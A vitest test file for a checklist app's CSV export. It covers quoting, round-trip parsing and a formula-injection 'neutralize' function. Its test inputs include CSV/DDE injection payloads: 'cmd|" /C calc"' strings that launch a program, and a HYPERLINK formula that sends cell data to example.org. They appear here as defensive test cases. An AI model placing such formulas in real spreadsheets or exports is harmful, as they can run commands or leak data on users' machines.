import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { formatCsv, neutralize, rowsOf } from '../../src/core/csv.ts';
import { buildDescribed } from '../states.ts';

const parse = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;

describe('a table', () => {
  const rows = rowsOf({
    described: buildDescribed(),
    name: 'Search team',
    answers: { 'one.item-1': 2, 'one.item-4': 'na' },
    notes: { 'one.item-1': 'First line.\nSecond line, "quoted".', 'one.item-3': 'Of an item that has left.' },
    planTexts: {
      'one.item-1/owner': 'Ana',
      'one.item-1/due': '2026-04-01',
      'one.item-1/done': '3',
      '@two/target': '2',
    },
  });

  test('has one row for each item, with numbers as numbers', () => {
    expect(rows).toHaveLength(4);
    expect(Object.fromEntries((rows[0] ?? []).map((name, column) => [name, rows[1]?.[column]]))).toEqual({
      Checklist: 'Sample checklist',
      Edition: 2,
      Response: 'Search team',
      Section: 'Group one',
      Facet: 'Group left',
      Item: 'one.item-1',
      Question: 'Is this the question of item 1?',
      Level: 2,
      'Level label': 'Repeatable',
      Points: 2,
      'Highest points': 3,
      Note: 'First line.\nSecond line, "quoted".',
      Owner: 'Ana',
      Due: '2026-04-01',
      'Target level': 3,
      Done: 'yes',
    });
    const cells = (row: number) => rows[row]?.slice(7);
    expect(cells(2)).toEqual([undefined, 'Not applicable', undefined, undefined, undefined, '', '', 2, undefined]);
    expect(cells(3)).toEqual([undefined, undefined, undefined, undefined, undefined, undefined, '', '', 2, undefined].slice(1));
  });

  test('is written as RFC 4180 and spreadsheets want it', () => {
    const csv = formatCsv(rows);
    expect(csv.startsWith('\ufeff"Checklist","Edition",')).toBe(true);
    expect(csv).toContain('\r\n"Sample checklist",2,"Search team"');
    expect(csv).toContain('"First line.\nSecond line, ""quoted""."');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parse(csv)).toEqual(rows.map((row) => row.map((cell) => String(cell ?? ''))));
  });

  test('comes back cell by cell, whatever is in it', () => {
    const cells = fc.oneof(fc.string({ unit: 'binary' }), fc.integer(), fc.constantFrom('=1+1', '-2', 'a,b', '"', '\r\n', ';'));
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constant('row'), cells, cells, cells), { minLength: 1 }), (table) => {
        expect(parse(formatCsv(table))).toEqual(
          table.map((row) => row.map((cell) => (typeof cell === 'number' ? String(cell) : neutralize(cell)))),
        );
      }),
    );
  });
});

describe('a formula', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\0=1',
    '  =cmd|" /C calc"!A0',
    '\u00a0=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("https://example.org?"&A1)',
    "-2+3+cmd|' /C calc'!D2",
  ])('is made a text: %j', (text) => {
    expect(neutralize(text)).toBe(`'${text}`);
  });

  test.each(['', 'Search team', '2 = 2', "it's", 'a-b', '42', ' x'])('is not seen in %j', (text) => {
    expect(neutralize(text)).toBe(text);
  });

  test('is not seen in a negative number', () => {
    expect(formatCsv([[-1, '-1']])).toBe('\ufeff-1,"\'-1"\r\n');
  });
});
